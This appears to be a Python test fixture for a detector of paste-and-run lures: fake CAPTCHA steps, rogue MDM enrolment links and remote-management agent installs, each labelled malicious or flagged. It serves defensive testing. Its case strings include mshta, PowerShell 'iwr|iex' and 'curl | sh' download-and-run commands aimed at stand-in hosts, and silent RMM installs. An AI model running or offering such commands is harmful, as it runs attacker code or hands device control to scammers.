"""fpover22 look-alikes: lures that try to abuse what the fixes cleared, each at the level it must
keep (own words; lure hosts on reserved names). Cases are (target, source, expected level, text).
"""

LURE = "https://verify-now.example/captcha/step2"
DESK = "https://it-helpdesk-portal.example/enroll"
KB = "https://kb.northwind.example/articles/enrol-your-windows-laptop"

# an enrolment link is the page's own organisation's only from a page that owns the username's
# domain: a stranger's page, a check page on its own domain, another company's username, a
# server elsewhere, another field, a second command, plain http or typed keep it a command
ENROLMENT = [
    (
        "run_dialog",
        LURE,
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example",
    ),
    (
        "run_dialog",
        "https://verify-now.example/enroll",
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=support@verify-now.example",
    ),
    (
        "run_dialog",
        DESK,
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=user@northwind.example",
    ),
    (
        "run_dialog",
        KB,
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example&servername=https://mdm.verify-now.example/EnrollmentServer/Discovery.svc",
    ),
    (
        "run_dialog",
        KB,
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example&accesstoken=eyJ0eXAiOiJKV1Qi",
    ),
    (
        "run_dialog",
        KB,
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example & mshta https://verify-now.example/c.hta",
    ),
    (
        "run_dialog",
        "http://kb.northwind.example/articles/enrol",
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example",
    ),
    (
        "run_dialog",
        KB,
        "malicious",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example&servername=http://enterpriseenrollment.northwind.example/",
    ),
    (
        "run_dialog",
        None,
        "flagged",
        "ms-device-enrollment:?mode=mdm&username=admin@remote-fix-desk.example",
    ),
]

# a defanged command quoted by sentences is a report only where nothing runs and when every
# address is defanged: a live address beside it, the command on a line of its own, the same
# text in a terminal or the Run box keep their level
DEFANGED = [
    (
        "unknown",
        None,
        "flagged",
        "人机验证：请按 Win+R 粘贴 mshta https://verify-cn.example/c.hta 完成验证，然后按回车。",
    ),
    (
        "unknown",
        None,
        "flagged",
        "quick fix for the teams error: mshta https://cf-check.example/y.hta then press enter and wait",
    ),
    (
        "unknown",
        None,
        "flagged",
        'Bitte bestätigen Sie, dass Sie ein Mensch sind:\npowershell -w h -c "iwr hxxps://pruef-de[.]example/s|iex"',
    ),
    (
        "terminal",
        "https://intranet.contoso-labs.example/ja/security/alerts/2026-12",
        "flagged",
        "セキュリティ通信：偽のCAPTCHA画面でコピーされる文字列の例は mshta hxxps://jp-check[.]example/v.hta です。",
    ),
    (
        "run_dialog",
        LURE,
        "malicious",
        "saw this in a ticket: mshta hxxps://verify-now[.]example/c.hta — blocked",
    ),
    (
        "unknown",
        None,
        "flagged",
        'note: the payload is powershell -w h -c "iwr hxxps://upd[.]example/s|iex"\ncurl -fsSL https://upd.example/s.sh | sh',
    ),
    (
        "unknown",
        None,
        "flagged",
        '검증 절차: Win+R 을 누르고 powershell -w hidden -c "iwr https://kr-verify.example/a.ps1 | iex" 를 붙여넣으세요.',
    ),
]
# a remote-management agent from a page: a callback scam's own step, whoever's page it is
RMM = [
    (
        "terminal",
        "https://refund-desk-help.example/install-level-agent",
        "malicious",
        "irm https://downloads.level.io/install_windows.ps1 | iex",
    ),
    (
        "terminal",
        LURE,
        "malicious",
        'msiexec /i "https://northwind.servicedesk.atera.com/GetAgent/Msi/?customerId=1" /qn',
    ),
]

LOOK_ALIKES = [
    ("mdm-link-look-alike", "windows", ENROLMENT),
    ("defanged-prose-look-alike", "any", DEFANGED),
    ("rmm-agent-look-alike", "windows", RMM),
]
